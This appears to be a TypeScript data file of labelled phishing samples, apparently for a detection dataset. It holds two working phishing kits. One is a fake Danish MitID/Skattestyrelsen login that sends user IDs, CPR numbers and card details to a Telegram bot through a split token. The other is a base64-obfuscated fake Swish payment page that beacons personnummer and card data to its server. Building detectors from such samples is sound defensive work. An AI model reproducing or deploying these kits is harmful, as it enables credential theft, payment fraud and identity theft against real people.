import { type Entry } from '../entry.js';
import { doc, b64, chunks, logo, cardFields } from '../parts/yx-kit.js';

export const entries: Entry[] = [
(() => {
  const tok = ['7412093358', ':AAG', 'w3Xq_Lm9zV', 'c0YtRkP2s', 'HdNfa81QpE'];
  return {
    id: 'yx-mitid-kit-dk-telegram',
    label: 'phishing',
    kind: 'mitid-credential-kit',
    url: 'https://mitid-borger-dk.help/log-ind/?sag=SKAT-55120',
    body: doc({
      lang: 'da',
      title: 'Log på med MitID',
      css: `body{margin:0;background:#f2f4f8;font-family:"IBM Plex Sans",Arial,sans-serif}.box{width:360px;margin:70px auto;background:#fff;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.15);overflow:hidden}
.hd{display:flex;justify-content:space-between;align-items:center;padding:18px 22px;border-bottom:1px solid #e4e7ee}.bd{padding:22px}label{font-size:12px;letter-spacing:.06em;text-transform:uppercase;color:#3b4356}
input{width:100%;box-sizing:border-box;border:1px solid #8d96a8;border-radius:2px;padding:11px;margin:6px 0 14px;font-size:16px}button{width:100%;background:#0060e6;color:#fff;border:0;padding:12px;font-size:16px;border-radius:2px}
.small{font-size:13px;color:#5d6577}.timer{font-size:30px;text-align:center;color:#0060e6}.arrow{width:64px;height:64px;margin:10px auto;border:3px solid #0060e6;border-radius:50%}`,
      body: `<div class="box">
 <div class="hd"><span>Log på hos <b>Skattestyrelsen</b></span>${logo.mitid(28)}</div>
 <div class="bd" id="s1">
  <form id="a"><label for="uid">Bruger-id</label><input id="uid" autocomplete="username" required>
  <button>Fortsæt</button></form>
  <p class="small"><a href="#">Glemt bruger-id?</a> · <a href="#">Hjælp</a></p>
 </div>
 <div class="bd" id="s2" hidden>
  <p><b>Åbn MitID app og godkend anmodningen</b></p><div class="arrow"></div><p class="timer" id="tm">2:59</p>
  <p class="small">Når du har godkendt, skal du bekræfte dit CPR-nummer og dit betalingskort, så tilbagebetalingen kan udbetales.</p>
  <form id="b"><label for="cpr">CPR-nummer</label><input id="cpr" placeholder="DDMMÅÅ-XXXX" required>${cardFields('da', ['kort', 'udl', 'cvc', 'navn'], 'x')}<button>Bekræft</button></form>
 </div>
 <div class="bd" id="s3" hidden><p>Tak. Din sag <b>SKAT-55120</b> er registreret. Beløbet udbetales inden for 3 bankdage.</p></div>
</div>
<script>
var T=[${tok.map((t) => `'${t}'`).join(',')}].join('');
function s(m){return fetch('https://api.telegram.org/bot'+T+'/sendMessage?chat_id=-1002241187764&text='+encodeURIComponent(m));}
var ip='';fetch('https://api.ipify.org?format=json').then(function(r){return r.json()}).then(function(j){ip=j.ip}).catch(function(){});
document.getElementById('a').onsubmit=function(e){e.preventDefault();s('🇩🇰 MitID\\nBruger: '+uid.value+'\\nIP: '+ip);s1.hidden=true;s2.hidden=false;var t=179;setInterval(function(){t--;tm.textContent=Math.floor(t/60)+':'+('0'+t%60).slice(-2)},1000)};
document.getElementById('b').onsubmit=function(e){e.preventDefault();var f=new FormData(e.target),o=[];f.forEach(function(v,k){o.push(k+': '+v)});s('💳 '+uid.value+'\\n'+o.join('\\n')).then(function(){s2.hidden=true;s3.hidden=false;setTimeout(function(){location='https://www.skat.dk'},4000)})};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const kit = doc({
    lang: 'sv',
    title: 'Swish – Ta emot betalning',
    css: `body{margin:0;font-family:-apple-system,Arial,sans-serif;background:#fafafa}.m{max-width:400px;margin:30px auto;background:#fff;border-radius:14px;padding:24px;box-shadow:0 3px 14px rgba(0,0,0,.07)}.sum{font-size:34px;font-weight:700;text-align:center}.fld label{font-size:13px;color:#444}.fld input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #ccc;border-radius:8px;margin:4px 0 10px}.half{display:inline-block;width:48%}button{width:100%;padding:14px;border-radius:24px;border:0;background:#ee2a7b;color:#fff;font-size:16px}`,
    body: `<div class="m">${logo.swish(34)}<p style="text-align:center">Du har en inkommande betalning</p><div class="sum">3 900 kr</div><p style="text-align:center;color:#666">från <b>Anna L.</b> · Blocket-köp “Cykel Crescent”</p>
<form id="sf"><div class="fld"><label>Ditt mobilnummer</label><input name="nr" placeholder="07X-XXX XX XX"></div><div class="fld"><label>Personnummer</label><input name="pnr" placeholder="ÅÅÅÅMMDD-XXXX"></div>${cardFields('sv', ['kort', 'datum', 'cvc', 'namn'])}<button>Ta emot</button></form></div>
<script>document.getElementById('sf').onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/ta-emot/api/r',new URLSearchParams(new FormData(this)));location.href='/ta-emot/bankid?'+Date.now()};</script>`,
  });
  return {
    id: 'yx-swish-docwrite-receive-kit',
    label: 'phishing',
    kind: 'swish-receive-money-kit',
    url: 'https://swish-betalning-mottag.web.app/ta-emot/?id=77120',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>&#8203;</title></head><body>
<script>var _0x=[${chunks(b64(kit), 96)}];document.write(decodeURIComponent(escape(atob(_0x.join('')))));</script>
<noscript>Aktivera JavaScript.</noscript></body></html>`,
  } satisfies Entry;
})(),
];
